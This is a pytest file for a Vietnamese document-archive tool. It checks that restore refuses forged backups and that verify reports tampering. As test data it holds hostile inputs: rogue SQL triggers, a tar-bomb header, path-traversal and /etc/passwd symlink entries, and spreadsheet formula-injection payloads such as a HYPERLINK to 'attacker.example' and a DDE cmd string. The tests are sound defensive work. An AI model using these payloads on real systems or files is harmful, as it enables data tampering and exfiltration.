"""Hostile backups and tampered homes: restore refuses them and leaves nothing, verify names them.

Every hostile file is built here from a real backup of a real home: the database edited
with sqlite3, the manifest rewritten (as a forger would, so the hashes match) or not.
"""

from __future__ import annotations

import datetime as dt
import gzip
import io
import json
import os
import sqlite3
import tarfile
import time
import tracemalloc

import pytest

from archive import Archive, ArchiveError, backup, issue_document, restore, verify
from archive.store import sha256_bytes

from .conftest import AGENCY, edit_beside_docgen, undo_signing_migration
from .test_archive import DATA


@pytest.fixture
def saved(tmp_path):
    """A backup of a home with two issued documents."""
    with Archive.init(tmp_path / "home", AGENCY) as archive:
        for day in (5, 6):
            issue_document(archive, "ke_hoach", DATA, date=dt.date(2025, 1, day), pdf=False)
        backup(archive, tmp_path / "good.tar.gz")
    return tmp_path / "good.tar.gz"


def members_of(path) -> dict[str, bytes]:
    with tarfile.open(path) as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers()}


def pack(path, members: dict[str, bytes]) -> None:
    """Write `members` in order as a .tar.gz."""
    with tarfile.open(path, "w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


def forge(saved, tmp_path, *, sql: str = "", database: bytes | None = None, agency: bytes | None = None,
          fix_hashes: bool = True, manifest: dict | None = None) -> os.PathLike:
    """A copy of `saved` with its database changed by `sql` (or replaced), the manifest's hashes
    recomputed as a forger would (unless fix_hashes is false)."""
    members = members_of(saved)
    if sql:
        work = tmp_path / "work.sqlite"
        work.write_bytes(members["archive.sqlite"])
        db = sqlite3.connect(work)
        db.executescript(sql)
        db.close()
        members["archive.sqlite"] = work.read_bytes()
        work.unlink()
    if database is not None:
        members["archive.sqlite"] = database
    if agency is not None:
        members["agency.yaml"] = agency
    meta = json.loads(members["backup.json"])
    if fix_hashes:
        meta["sha256"] = {name: sha256_bytes(members[name]) for name in meta["sha256"]}
        meta["bytes"] = sum(len(data) for name, data in members.items() if name != "backup.json")
    meta.update(manifest or {})
    members["backup.json"] = json.dumps(meta).encode()
    out = tmp_path / "forged.tar.gz"
    pack(out, members)
    return out


def refused(backup_file, tmp_path, *messages: str) -> str:
    """Restore must refuse, naming what is wrong, and leave no home and no work folder behind."""
    target = tmp_path / "target"
    before = sorted(os.listdir(tmp_path))
    with pytest.raises(ArchiveError) as caught:
        restore(backup_file, target)
    text = str(caught.value)
    assert "nothing was restored" in text
    for message in messages:
        assert message in text, text
    assert not target.exists()
    assert sorted(os.listdir(tmp_path)) == before  # no half-built home, no .target-restore-* folder
    return text


TRIGGER_ON_DOCUMENTS = """
CREATE TRIGGER forge AFTER INSERT ON documents BEGIN
  UPDATE documents SET subject = 'Giả mạo', signer_name = 'Kẻ giả mạo' WHERE id = NEW.id;
END;"""
TRIGGER_ON_AUDIT = "CREATE TRIGGER wipe AFTER INSERT ON audit BEGIN DELETE FROM files; END;"


@pytest.mark.parametrize("sql, message", [
    (TRIGGER_ON_DOCUMENTS, "trigger 'forge' is not part of docgen's schema"),
    (TRIGGER_ON_AUDIT, "trigger 'wipe' is not part of docgen's schema"),
    ("CREATE VIEW everything AS SELECT * FROM documents;", "view 'everything' is not part of"),
    ("CREATE TABLE extra (x);", "table 'extra' is not part of"),
    ("DROP INDEX documents_number;", "index 'documents_number' of docgen's schema is missing"),
    ("UPDATE documents SET subject = 'Trích yếu đã sửa' WHERE id = 2;",
     "02/KH-SGD&ĐT (id 2, 2025): its record or file hashes were changed outside docgen"),
    ("UPDATE documents SET signer_name = 'Người khác' WHERE id = 1;", "01/KH-SGD&ĐT (id 1, 2025): its record"),
    ("DELETE FROM audit WHERE id = 2;", "audit: row(s) 2 deleted"),
    ("UPDATE audit SET actor = 'someone else' WHERE id = 3;", "audit: row 3 (issue of"),
    ("UPDATE files SET sha256 = '" + "ab" * 32 + "' WHERE document_id = 1;",
     "which the backup does not hold"),
    ("PRAGMA user_version = 999;", "made by a newer docgen (schema version 999"),
])
def test_a_tampered_database_is_refused_and_nothing_is_restored(saved, tmp_path, sql, message):
    refused(forge(saved, tmp_path, sql=sql), tmp_path, message)


def test_a_file_that_is_not_a_database_is_refused(saved, tmp_path):
    refused(forge(saved, tmp_path, database=b"SQLite format 3\0" + b"\xff" * 5000), tmp_path,
            "not a usable SQLite database")
    refused(forge(saved, tmp_path, database=b"hello, not a database at all"), tmp_path, "archive.sqlite")


def test_a_database_or_agency_file_changed_after_the_backup_is_refused(saved, tmp_path):
    refused(forge(saved, tmp_path, sql="UPDATE documents SET subject = 'x';", fix_hashes=False), tmp_path,
            "archive.sqlite does not match the SHA-256 in backup.json")
    agency = AGENCY.read_bytes().replace(b"code:", b"code: X\nold_code:", 1)
    refused(forge(saved, tmp_path, agency=agency, fix_hashes=False), tmp_path,
            "agency.yaml does not match the SHA-256 in backup.json")


def test_a_forged_manifest_is_checked_before_anything_is_read(saved, tmp_path):
    refused(forge(saved, tmp_path, manifest={"schema_version": 999}), tmp_path, "made by a newer docgen")
    refused(forge(saved, tmp_path, manifest={"bytes": 10}), tmp_path, "more than the 10 bytes backup.json declares")
    members = members_of(saved)
    pack(tmp_path / "deep.tar.gz", {**members, "backup.json": b"[" * 500_000})
    refused(tmp_path / "deep.tar.gz", tmp_path, "backup.json is not valid JSON")
    last = dict(list(members.items())[1:]) | {"backup.json": members["backup.json"]}
    pack(tmp_path / "late.tar.gz", last)
    refused(tmp_path / "late.tar.gz", tmp_path, "must begin with backup.json")


def test_a_backup_larger_than_the_free_space_is_refused_before_unpacking(saved, tmp_path, monkeypatch):
    import collections
    import shutil

    usage = collections.namedtuple("usage", "total used free")
    monkeypatch.setattr(shutil, "disk_usage", lambda _path: usage(10 << 20, 10 << 20, 50_000))  # a nearly full disk
    refused(saved, tmp_path, "has 50,000 bytes free")


def test_a_corrupted_store_file_in_the_backup_is_refused(saved, tmp_path):
    members = members_of(saved)
    name = next(n for n in members if n.startswith("files/"))
    members[name] = members[name][:-1] + b"!"
    pack(tmp_path / "bad.tar.gz", members)
    refused(tmp_path / "bad.tar.gz", tmp_path, f"store file {name.split('/')[-1]} does not match its hash")


def test_a_huge_member_is_refused_from_its_header_without_being_read(saved, tmp_path):
    """A 1.5 GB member (a header claiming it, then zeros as a bomb would) costs no memory."""
    members = members_of(saved)
    out = tmp_path / "bomb.tar.gz"
    with gzip.open(out, "wb", compresslevel=1) as raw:
        data = members["backup.json"]
        info = tarfile.TarInfo("backup.json")
        info.size = len(data)
        raw.write(info.tobuf(format=tarfile.GNU_FORMAT) + data + b"\0" * (-len(data) % 512))
        info = tarfile.TarInfo("archive.sqlite")
        info.size = 1_500_000_000
        raw.write(info.tobuf(format=tarfile.GNU_FORMAT))
        raw.write(b"\0" * (4 << 20))  # the start of its body; the rest is never read
    assert out.stat().st_size < 100_000
    tracemalloc.start()
    started = time.perf_counter()
    refused(out, tmp_path, "entry 'archive.sqlite' claims 1,500,000,000 bytes, over the limit of 1,073,741,824")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 20 << 20 and time.perf_counter() - started < 5


@pytest.mark.parametrize("kind", ["symlink", "traversal", "folder"])
def test_links_folders_and_paths_out_of_the_home_are_refused(saved, tmp_path, kind):
    members = members_of(saved)
    out = tmp_path / "odd.tar.gz"
    with tarfile.open(out, "w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
            if name == "backup.json":
                odd = tarfile.TarInfo({"symlink": "files/ab/" + "ab" * 32, "traversal": "../escape",
                                       "folder": "files/zz"}[kind])
                if kind == "symlink":
                    odd.type, odd.linkname = tarfile.SYMTYPE, "/etc/passwd"
                elif kind == "folder":
                    odd.type = tarfile.DIRTYPE
                tar.addfile(odd, io.BytesIO(b"x") if kind == "traversal" else None)
    refused(out, tmp_path, "unexpected entry")
    assert not (tmp_path / "escape").exists()


def test_a_good_backup_restores_and_its_chain_holds(saved, tmp_path):
    archive, report = restore(saved, tmp_path / "target")
    with archive:
        assert report.ok, report.problems
        assert archive.db.execute("SELECT count(*) FROM documents").fetchone()[0] == 2


# -- verify on a live home -----------------------------------------------------------------------


def three_issued(tmp_path, database=None):
    with Archive.init(tmp_path / "home", AGENCY, database=database) as archive:
        for day in (5, 6, 7):
            issue_document(archive, "ke_hoach", DATA, date=dt.date(2025, 1, day), pdf=False)
    return tmp_path / "home"


@pytest.fixture
def home(tmp_path, database):
    """A home with three issued documents, on SQLite and on PostgreSQL."""
    return three_issued(tmp_path, database)


@pytest.fixture
def sqlite_home(tmp_path):
    return three_issued(tmp_path)


def tamper(home, sql: str) -> list[str]:
    """What verify says once `sql` has edited the home's database beside docgen."""
    edit_beside_docgen(home, sql)
    with Archive.open(home) as archive:
        return verify(archive).problems


def test_verify_names_a_subject_or_signer_edited_with_sqlite3(home):
    problems = tamper(home, "UPDATE documents SET subject = 'Trích yếu khác', signer_name = 'Ai đó' WHERE id = 2;")
    assert problems == ["02/KH-SGD&ĐT (id 2, 2025): its record or file hashes were changed outside docgen "
                        "(they differ from what the audit trail vouched for)"]


def test_verify_names_a_deleted_audit_row_and_an_edited_one(home):
    problems = tamper(home, "DELETE FROM audit WHERE id = 2; UPDATE audit SET at = '2020-01-01' WHERE id = 4;")
    assert any(p.startswith("audit: row(s) 2 deleted") for p in problems)
    assert any(p.startswith("audit: row 4 (issue of 2020-01-01) was edited") for p in problems)


# The same forgery in PostgreSQL: its triggers run a function.
PG_TRIGGER_ON_DOCUMENTS = """
CREATE FUNCTION forge_row() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN
  UPDATE documents SET subject = 'Giả mạo', signer_name = 'Kẻ giả mạo' WHERE id = NEW.id; RETURN NULL;
END $$;
CREATE TRIGGER forge AFTER INSERT ON documents FOR EACH ROW EXECUTE FUNCTION forge_row();"""


def test_a_home_with_a_foreign_trigger_is_reported_and_written_no_more(home, database):
    if database is None:
        problems = tamper(home, TRIGGER_ON_DOCUMENTS)
        assert problems == ["database: trigger 'forge' is not part of docgen's schema"]
    else:
        problems = tamper(home, PG_TRIGGER_ON_DOCUMENTS)
        assert problems == ["database: function 'forge_row' is not part of docgen's schema",
                            "database: trigger 'forge' is not part of docgen's schema"]
    with Archive.open(home) as archive:
        with pytest.raises(ArchiveError, match="its schema is not docgen's .*trigger 'forge'.*nothing is written"):
            issue_document(archive, "ke_hoach", DATA, date=dt.date(2025, 1, 8), pdf=False)
        assert archive.db.execute("SELECT count(*) FROM documents").fetchone()[0] == 3


def test_verify_flags_store_entries_that_are_not_plain_files(home, tmp_path):
    store = home / "files"
    (store / "ab").mkdir(exist_ok=True)
    os.symlink("/etc/passwd", store / "ab" / ("ab" * 32))
    (store / "cd").mkdir(exist_ok=True)
    (store / "cd" / ("cd" * 32)).mkdir()
    os.symlink(tmp_path, store / "ef")
    with Archive.open(home) as archive:
        problems = verify(archive).problems
    for path in (store / "ab" / ("ab" * 32), store / "cd" / ("cd" * 32), store / "ef"):
        assert f"{path}: not a plain file (a link, folder or device has no place in the store)" in problems
    assert len(problems) == 3, problems


def test_an_older_home_gets_its_audit_chain_on_open(sqlite_home):
    home = sqlite_home
    db = sqlite3.connect(home / "archive.sqlite")
    undo_signing_migration(db)
    db.executescript("ALTER TABLE audit DROP COLUMN hash; ALTER TABLE audit DROP COLUMN state; "
                     "DROP TABLE changes; DROP TABLE change_log; DROP TABLE copies; DROP TABLE tokens; "
                     "DROP TABLE users; PRAGMA user_version = 2;")
    db.close()
    with Archive.open(home) as archive:
        assert verify(archive).ok
        assert archive.db.execute("SELECT count(*) FROM audit WHERE hash IS NULL").fetchone()[0] == 0
    assert tamper(home, "UPDATE documents SET subject = 'x' WHERE id = 1;")[0].startswith("01/KH-SGD&ĐT (id 1")


# -- the register export writes text, never formulas ----------------------------------------------


def test_register_export_writes_every_cell_as_text(tmp_path):
    import zipfile

    import openpyxl
    from click.testing import CliRunner

    from cli import cli

    payloads = ['=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]
    agency = tmp_path / "agency.yaml"
    agency.write_text(AGENCY.read_text(encoding="utf-8").replace("Nguyễn Mai Phương", payloads[0]), encoding="utf-8")
    home = tmp_path / "home"
    with Archive.init(home, agency) as archive:
        issue_document(archive, "ke_hoach", {**DATA, "recipients": payloads[1:]}, date=dt.date(2025, 1, 5),
                       pdf=False)
    out = tmp_path / "so.xlsx"
    result = CliRunner().invoke(cli, ["--home", str(home), "register", "export", "--year", "2025", "-o", str(out)])
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out)["chung"]
    assert sheet["D2"].value == payloads[0] and sheet["D2"].data_type == "s" and sheet["D2"].quotePrefix
    assert sheet["E2"].value.startswith("- +cmd|") and sheet["E2"].data_type == "s" and sheet["E2"].quotePrefix
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(out) as package:
        xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


# -- secret documents exist only for whoever asks for them ----------------------------------------


def test_secret_documents_are_hidden_from_list_show_get_and_the_register_unless_asked(tmp_path):
    import openpyxl
    from click.testing import CliRunner

    from cli import cli

    home = tmp_path / "home"
    with Archive.init(home, AGENCY) as archive:
        issue_document(archive, "ke_hoach", DATA, date=dt.date(2025, 1, 5), pdf=False)  # 01/KH in chung
        secret = issue_document(archive, "ke_hoach", {**DATA, "secrecy": "MẬT", "subject": "Kế hoạch mật"},
                                date=dt.date(2025, 1, 6), pdf=False).record  # 01/KH in mat: same number-symbol

    def run(*args):
        return CliRunner().invoke(cli, ["--home", str(home), *map(str, args)])

    listed = run("list", "--json")
    assert listed.exit_code == 0 and json.loads(listed.stdout)["count"] == 1
    assert "Kế hoạch mật" not in listed.output and "mat" not in run("list").output
    # The same number-symbol exists in the secret register: no ambiguity, no hint that it does.
    shown = run("show", "01/KH-SGD&ĐT", "--json")
    assert shown.exit_code == 0 and json.loads(shown.stdout)["register"] == "chung"
    for args in (["show", str(secret.id)], ["get", str(secret.id), "-o", tmp_path / "out.docx"],
                 ["pdf", str(secret.id)], ["revoke", str(secret.id), "--by", "1"]):
        hidden = run(*args)
        assert hidden.exit_code == 2
        assert f"no document with id {secret.id} in this archive" in hidden.output
        assert "mật" not in hidden.output.lower() and "mat" not in hidden.output
    assert not (tmp_path / "out.docx").exists()
    missing = run("show", "99")
    assert missing.output.replace("99", str(secret.id)) == run("show", str(secret.id)).output  # same words

    asked = run("show", str(secret.id), "--include-secret", "--json")
    assert asked.exit_code == 0 and json.loads(asked.stdout)["subject"] == "Kế hoạch mật"
    both = run("show", "01/KH-SGD&ĐT", "--include-secret")
    assert both.exit_code == 2 and "names 2 documents" in both.output
    assert json.loads(run("list", "--include-secret", "--json").stdout)["count"] == 2
    assert run("get", str(secret.id), "-o", tmp_path / "out.docx", "--include-secret").exit_code == 0

    book = tmp_path / "so.xlsx"
    written = run("register", "export", "--year", "2025", "-o", book, "--json")
    assert json.loads(written.stdout)["registers"] == {"chung": 1}
    assert openpyxl.load_workbook(book).sheetnames == ["chung"]
    assert run("register", "export", "--year", "2025", "-o", book, "--include-secret").exit_code == 0
    assert openpyxl.load_workbook(book).sheetnames == ["chung", "mat"]


# -- a home is private whatever the umask ------------------------------------------------------------


def test_home_database_index_and_backups_are_private_whatever_the_umask(tmp_path):
    import stat

    old = os.umask(0o022)
    try:
        with Archive.init(tmp_path / "home", AGENCY) as archive:  # the search index on, as `docgen issue` runs
            issue_document(archive, "ke_hoach", DATA, date=dt.date(2025, 1, 5), pdf=False)
            backup(archive, tmp_path / "backups" / "b.tar.gz")
        restored, _ = restore(tmp_path / "backups" / "b.tar.gz", tmp_path / "restored")
        restored.close()
    finally:
        os.umask(old)
    assert stat.S_IMODE(os.stat(tmp_path / "backups" / "b.tar.gz").st_mode) == 0o600
    for home in (tmp_path / "home", tmp_path / "restored"):
        assert stat.S_IMODE(os.stat(home).st_mode) == 0o700
        found = {}
        for folder, dirs, files in os.walk(home):
            for name in dirs + files:
                path = os.path.join(folder, name)
                found[os.path.relpath(path, home)] = stat.S_IMODE(os.lstat(path).st_mode)
        assert found["archive.sqlite"] == 0o600 and found["agency.yaml"] == 0o600
        assert found["index"] == 0o700
        store = {p: m for p, m in found.items() if p.startswith("files/") and len(p) > 9}
        assert store and set(store.values()) == {0o400}
        # The index's own files are the search engine's; the 0700 folders above them close them to others.
        assert not {p: oct(m) for p, m in found.items() if m & 0o077 and not p.startswith("index/")}


# -- what killed runs leave behind is removed by the next run of the same command -----------------------

HOLDER = """
import sys, time
from pathlib import Path
from docgen.workfolder import WorkFolder
folder = WorkFolder(sys.argv[1], sys.argv[2]).__enter__()
(folder / "copy.docx").write_bytes(b"a DOCX copy of a document")
print(folder, flush=True)
time.sleep(120)
"""


def left_by_killed_run(parent, prefix: str, *, kill: bool = True):
    """A work folder of a run that was killed (SIGKILL) mid-way, or of one still running."""
    import subprocess
    import sys

    from .conftest import ROOT

    proc = subprocess.Popen([sys.executable, "-c", HOLDER, str(parent), prefix], stdout=subprocess.PIPE,
                            text=True, cwd=ROOT)
    folder = proc.stdout.readline().strip()
    old = time.time() - 60
    os.utime(folder, (old, old))
    if kill:
        proc.kill()
        proc.wait()
    return folder, proc


def test_leftovers_of_killed_backups_restores_and_pdf_runs_are_removed_next_time(saved, tmp_path, soffice):
    home = tmp_path / "home"
    dead, _ = left_by_killed_run(tmp_path, ".docgen-backup-")
    live, running = left_by_killed_run(tmp_path, ".docgen-backup-", kill=False)
    dead_restore, _ = left_by_killed_run(tmp_path, ".target-restore-")
    dead_pdf, _ = left_by_killed_run(home, ".docgen-pdf-")
    try:
        with Archive.open(home) as archive:
            backup(archive, tmp_path / "again.tar.gz")
            assert not os.path.exists(dead) and os.path.exists(live)  # a running backup's folder is kept
            from archive import make_pdfs

            assert make_pdfs(archive, [1]) == [1]
            assert not os.path.exists(dead_pdf)
            assert not [p for p in os.listdir(home) if p.startswith(".docgen-pdf-")]
        restore(saved, tmp_path / "target")[0].close()
        assert not os.path.exists(dead_restore)
    finally:
        running.kill()
        running.wait()


def test_restore_and_verify_commands_name_the_tampering(saved, tmp_path):
    from click.testing import CliRunner

    from cli import cli

    forged = forge(saved, tmp_path, sql=TRIGGER_ON_DOCUMENTS + "UPDATE documents SET signer_name = 'X' WHERE id = 1;")
    result = CliRunner().invoke(cli, ["restore", str(forged), "--home", str(tmp_path / "target")])
    assert result.exit_code == 2
    assert "refused, its database is not one docgen made or was changed since" in result.output
    assert "trigger 'forge' is not part of docgen's schema" in result.output
    assert "nothing was restored" in result.output and not (tmp_path / "target").exists()

    home = tmp_path / "home"
    clean = CliRunner().invoke(cli, ["--home", str(home), "verify", "--json"])
    head = json.loads(clean.stdout)["audit_head"]
    assert clean.exit_code == 0 and head["row"] == 4 and len(head["hash"]) == 64  # init, 2 issues, backup
    assert f"audit trail: 4 rows, last hash {head['hash']}" in CliRunner().invoke(cli, ["--home", str(home), "verify"]).output
    db = sqlite3.connect(home / "archive.sqlite")
    db.execute("DELETE FROM audit WHERE id = 4")  # the trail's end cut: only the head written down elsewhere shows it
    db.execute("UPDATE documents SET subject = 'Đã sửa bằng sqlite3' WHERE id = 1")
    db.commit()
    db.close()
    assert json.loads(CliRunner().invoke(cli, ["--home", str(home), "verify", "--json"]).stdout)["audit_head"]["row"] == 3
    checked = CliRunner().invoke(cli, ["--home", str(home), "verify"])
    assert checked.exit_code == 1
    assert "PROBLEM: 01/KH-SGD&ĐT (id 1, 2025): its record or file hashes were changed outside docgen" in checked.output


def test_verify_names_an_imported_record_edited_with_sqlite3(home, tmp_path):
    from archive.importing import store_imported

    original = tmp_path / "cong-van-cu.txt"
    original.write_text("Công văn cũ", encoding="utf-8")
    with Archive.open(home) as archive:
        store_imported(archive, original, {"subject": "Công văn cũ", "signer_name": "Trần Văn A"}, text="Công văn cũ",
                       format="txt")
        assert verify(archive).ok
    problems = tamper(home, "UPDATE imported SET signer_name = 'Người khác' WHERE id = 1;")
    assert problems == ["imported i1 (cong-van-cu.txt): its record was changed outside docgen (it differs from "
                        "what the audit trail vouched for)"]
